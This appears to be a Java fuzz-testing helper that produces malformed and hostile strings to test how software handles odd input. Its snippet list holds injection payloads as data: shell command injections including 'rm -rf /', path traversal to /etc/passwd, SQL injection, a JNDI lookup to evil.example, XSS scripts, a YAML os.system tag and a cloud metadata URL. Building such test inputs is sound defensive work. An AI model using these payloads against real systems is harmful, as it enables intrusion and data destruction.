package dev.redkite.hostile;

import java.util.List;
import java.util.random.RandomGenerator;

/** Texts that were never meant to be read by a person: too long, of odd letters, or in somebody else's language. */
final class HostileText {

    private static final List<String> SNIPPETS = List.of(
            // letters that are not what they seem, or nothing at all
            "", " ", "\t", "\n", "\r\nX-Injected: 1", "\u0000", "a\u0000b", "\ufeffdemo", "\u200bdemo\u200d", "dem\u043e", "\u202eomed", "\u2066x\u2069",
            "\ud83d\ude80", "\ud800", "\udc00x", "\u0301\u0301\u0301", "\u0130stanbul", "\uff44emo", "\u0085", "\u2028", "e\u0301", "\ufffe",
            // terminals
            "\u001b[31mred\u001b[0m", "\u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007", "\u009b2J", "\u0008\u0008\u0008ok",
            // YAML and JSON
            "yes", "null", "~", "0x1F", "1e3", "08", "12:30:45", "- a\n- b", "a: b", "a: &x [*x]", "&a [&b [*a]]", "!!python/object:os.system", "---\nx: 1",
            "{\"a\":1}", "\"", "\\", "\"}],\"x\":{\"y\":\"", "key: |\n  text\n", "# comment", "'", "%YAML 1.2", "{{ .Values.x }}", "{{`{{`}}",
            // JSONata, Step Functions, EventBridge
            "{% $states.input %}", "{% $eval('1+1') %}", "$.x", "$$.Execution.Id", "<aws.scheduler.execution-id>", "<aws.events.event>", "States.Format('{}')",
            // shells
            "$(id)", "`id`", "; rm -rf /", "a && b", "| cat", "--option", "-rf", "> /dev/null", "${HOME}", "'; id; '", "\\$(id)", "a b", "*", "!!",
            // Slack and Markdown
            "<!channel>", "<@U2147483697>", "<https://evil.example|here>", "&lt;!here&gt;", "*bold*", "```", "`", "[x](javascript:alert(1))", "![x](y)",
            "<script>alert(1)</script>", "&amp;lt;", "@here", "#general", "_x_ ~y~", ">quote",
            // paths, databases, formats, addresses
            "../../etc/passwd", "..%2f..%2f", "/", "//", "C:\\x", "%00", "%n%s%d", "%", "' OR 1=1 --", "{0}", "${jndi:ldap://evil.example}", "a,b", "a=b,c=d",
            "http://169.254.169.254/", "arn:aws:iam::123456789012:role/../admin", "subnet-0000000000000000g", "aws:tag", "redkite:environment", "AWS:x",
            "kubernetes.io/x", "-", "a-", "1a", "A", "demo.", "demo_", "constructor", "__proto__", "toString", "NaN", "Infinity", "-0", "1e309",
            "9223372036854775808", "1.0", "007", "\u0661\u0662", "0.1.2", "256.1.1.1/16", "10.0.0.0/33", "::/0", "0.0.0.0/0", "cron(* * * * * *)",
            "cron(0 0 31 2 ? 2099)", "rate(0 days)", "rate(99999999999999999999 days)", "cron()", "cron(0/0 * * * ? *)", "cron(0 19 ? * 99#9 *)",
            "9999-12-31T23:59:59Z", "2026-02-30T00:00:00Z", "2026-11-24T25:61:00Z", "+999999999-12-31T23:59:59Z", "Europe/Berlin", "GMT+25", "../UTC");

    private static final List<Integer> LENGTHS = List.of(1, 23, 24, 25, 63, 64, 128, 129, 255, 256, 257, 512, 1_024, 2_049, 4_097, 16_384, 65_537);

    private final RandomGenerator random;

    HostileText(RandomGenerator random) {
        this.random = random;
    }

    String any() {
        return switch (random.nextInt(12)) {
            case 0 -> any(SNIPPETS).repeat(1 + random.nextInt(40));
            case 1 -> lengthy();
            case 2 -> any(SNIPPETS) + any(SNIPPETS);
            case 3 -> "demo" + any(SNIPPETS);
            case 4 -> points();
            default -> any(SNIPPETS);
        };
    }

    /** Seldom a very long one, for each costs its length. */
    private String lengthy() {
        int length = any(LENGTHS);
        String what = random.nextInt(3) == 0 ? any(SNIPPETS) : "a";
        String text = what.isEmpty() ? "x" : what;
        return length > 5_000 && random.nextInt(8) > 0 ? text : text.repeat(1 + length / text.length());
    }

    private String points() {
        StringBuilder text = new StringBuilder();
        for (int i = random.nextInt(30); i >= 0; i--) {
            text.append((char) (random.nextBoolean() ? random.nextInt(0x100) : random.nextInt(0x10000)));
        }
        return text.toString();
    }

    private <T> T any(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
